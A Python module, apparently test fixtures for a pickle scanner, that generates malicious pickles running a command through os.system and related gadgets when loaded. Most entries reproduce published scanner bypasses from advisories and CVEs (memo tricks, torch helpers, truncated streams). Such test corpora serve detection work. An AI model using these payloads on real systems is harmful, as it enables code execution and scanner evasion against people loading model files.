"""Pickles that do harm when they are loaded, one a trick: how published bypasses hid what they call."""

import struct
from collections.abc import Callable

from corpus.assembly import PROTO_2, PROTO_4, STOP, called, named, short_text, state_dict, storage, tensor, text, value
from corpus.gadgets import GADGET_CASES

SYSTEM = "os:system"


def _gadget(pair: str) -> Callable[[str], bytes]:
    return lambda command: PROTO_4 + called(pair, command) + STOP


def _frame(content: bytes, length: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(content) if length is None else length) + content


def _methodcaller(command: str) -> bytes:
    return named("operator:methodcaller") + value(("system", command)) + b"R" + value((named("os:path"),)) + b"R"


def _type_confusion(command: str) -> bytes:
    """STACK_GLOBAL whose operands went through the memo, under indices that were overwritten."""
    memo = text("os") + b"q\0" + text("harmless") + b"q\0" + b"0" + text("os") + b"q\1" + b"0" + text("system") + b"q\2"
    return memo + b"h\1h\2\x93" + value((command,)) + b"R"


_FROM_SYSTEM: dict[str, Callable[[str], bytes]] = {
    "reduce": lambda command: PROTO_2 + called(SYSTEM, command) + STOP,
    "protocol-0": lambda command: b"cposix\nsystem\n(S" + repr(command).encode() + b"\ntR.",
    "inst": lambda command: b"(" + text(command) + b"ios\nsystem\n.",
    "newobj": lambda command: PROTO_2 + named(SYSTEM) + value((command,)) + b"\x81.",
    "newobj-ex": lambda command: PROTO_4 + named(SYSTEM) + value((command,)) + b"}\x92.",
    "stack-global": lambda command: PROTO_4 + short_text("os") + short_text("system") + b"\x93"
    + value((command,)) + b"R.",
    "GHSA-9gvj-pp9x-gcfr-string-operands": lambda command: b"\x80\x04S'os'\nS'system'\n\x93"
    + value((command,)) + b"R.",
    "GHSA-9gvj-pp9x-gcfr-binstring-operands": lambda command: b"\x80\x04U\x02osT\x06\0\0\0system\x93"
    + value((command,)) + b"R.",
    "picklescan-52-memo": lambda command: PROTO_4 + _type_confusion(command) + STOP,
    "picklescan-52-type-confusion": lambda command: b"\x80\x04C\x02osC\x06system\x93" + value((command,)) + b"R.",
    "GHSA-mxhj-obj-popped": lambda command: PROTO_2 + b"(" + named(SYSTEM) + text(command) + b"o0}.",
    "GHSA-mxhj-inst-popped": lambda command: PROTO_2 + b"(" + text(command) + b"ios\nsystem\n0}.",
    "GHSA-mxhj-reduce-popped": lambda command: PROTO_2 + called(SYSTEM, command) + b"0}.",
    "GHSA-mxhj-popped-to-mark": lambda command: PROTO_2 + b"(" + called(SYSTEM, command) + b"1}.",
    "mentioned-and-popped": lambda _: PROTO_2 + named(SYSTEM) + b"0" + state_dict() + STOP,
    "mentioned-and-forgotten": lambda _: PROTO_2 + named(SYSTEM) + b"q\0" + b"0}q\0.",
    "duplicated": lambda command: PROTO_2 + named(SYSTEM) + b"2" + value((command,)) + b"R0" + b"0}.",
    "GHSA-84r2-jw7c-4r5q-called": lambda command: PROTO_2 + _methodcaller(command) + STOP,
    "GHSA-5j3x-through-torch": lambda command: PROTO_4 + called("torch.serialization:os.system", command) + STOP,
    "GHSA-5j3x-through-a-stranger": lambda command: PROTO_4 + called("nice.module:os.system", command) + STOP,
    "GHSA-9m3x-qqw2-h32h-cloudpickle": lambda command: PROTO_2
    + called("cloudpickle.cloudpickle:_builtin_type", "CodeType") + value((command,)) + b"R.",
    "GHSA-97f8-7cmv-76j2-getattr": lambda command: PROTO_2 + called("builtins:getattr", named("os:path"), "system")
    + value((command,)) + b"R.",
    "cpython-154848-frame": lambda command: PROTO_4 + _frame(called(SYSTEM, command) + b"0}.", 4),
    "extension-registry": lambda _: PROTO_2 + b"\x82\1)R.",
    "import-by-torch": lambda command: PROTO_2 + called("torch._utils:_import_dotted_name", "os.system")
    + value((command,)) + b"R.",
    "partial": lambda command: PROTO_2 + called("functools:partial", named(SYSTEM), command) + b")R.",
    "map": lambda command: PROTO_2 + called("builtins:map", named(SYSTEM), [command]) + STOP,
    "defaultdict": lambda _: PROTO_2 + called("collections:defaultdict", named(SYSTEM)) + STOP,
    "in-a-shape": lambda command: PROTO_2 + tensor(storage(), called(SYSTEM, command)) + STOP,  # type: ignore[arg-type]
    "in-a-storage-id": lambda command: PROTO_2
    + value(("storage", named("torch:FloatStorage"), "0", called(SYSTEM, command), 4)) + b"Q.",
    "as-a-storage-type": lambda command: PROTO_2 + value(("storage", called(SYSTEM, command), "0", "cpu", 4)) + b"Q.",
    "as-a-backward-hook": lambda command: PROTO_2 + called(
        "torch._utils:_rebuild_tensor_v2", storage(), 0, (4,), (1,), False, called(SYSTEM, command)) + STOP,  # noqa: FBT003 - torch's order
    "in-the-state-of-an-ordered-dict": lambda command: PROTO_2 + called("collections:OrderedDict")
    + value({"_metadata": called(SYSTEM, command)}) + b"b.",
    "rebuild-from-type": lambda command: PROTO_2 + called(
        "torch._tensor:_rebuild_from_type_v2", named(SYSTEM), named("torch:Tensor"), (command,), {}) + STOP,
    "setstate": lambda command: PROTO_2 + called("m:A") + value({"__setstate__": named(SYSTEM)}) + b"b"
    + value(command) + b"b.",
    "class-assigned": lambda _: PROTO_2 + called("m:A") + value({"__class__": named(SYSTEM)}) + b"b.",
    "build-of-a-function": lambda command: PROTO_2 + named("torch._utils:_rebuild_tensor_v2")
    + value({"__code__": called(SYSTEM, command)}) + b"b.",
    "beside-good-tensors": lambda command: PROTO_2 + state_dict(text("x") + called(SYSTEM, command)) + STOP,
    "CVE-2026-24747-items-of-a-tensor": lambda _: PROTO_2 + tensor() + value(0) + value(1) + b"s.",
    "CVE-2026-24747-items-of-a-size": lambda _: PROTO_2 + called("torch:Size", (1,)) + value(0) + value(1) + b"s.",
    "CVE-2026-24747-items-of-a-storage-class": lambda _: PROTO_2 + named("torch:FloatStorage") + value(0)
    + value(1) + b"s.",
    "nullifAI-broken-after-the-payload": lambda command: PROTO_2 + called(SYSTEM, command) + b"\xff\xfe",
    "nullifAI-cut-after-the-payload": lambda command: PROTO_2 + called(SYSTEM, command),
    "nullifAI-empty-stack-after-the-payload": lambda command: PROTO_2 + called(SYSTEM, command) + b"00R.",
    "nullifAI-unknown-memo-after-the-payload": lambda command: PROTO_2 + called(SYSTEM, command) + b"h\x07.",
    "nullifAI-bytes-after-stop": lambda command: PROTO_2 + called(SYSTEM, command) + b".extra",
}  # fmt: skip

PICKLES: dict[str, Callable[[str], bytes]] = {
    **_FROM_SYSTEM,
    **{f"{number}-{gadget.replace(':', '.')}": _gadget(gadget) for number, gadget in GADGET_CASES},
}
"""By name: makes the pickle from the command that it would run. Each is unsafe in every container."""
